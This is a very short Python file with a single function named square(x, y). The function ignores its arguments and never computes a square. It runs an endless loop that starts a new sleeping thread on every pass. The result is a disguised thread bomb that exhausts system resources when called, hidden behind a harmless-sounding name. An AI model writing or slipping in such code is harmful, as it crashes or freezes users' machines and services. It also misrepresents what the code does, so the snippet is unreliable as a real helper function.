import threading
import time


def square(x, y):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
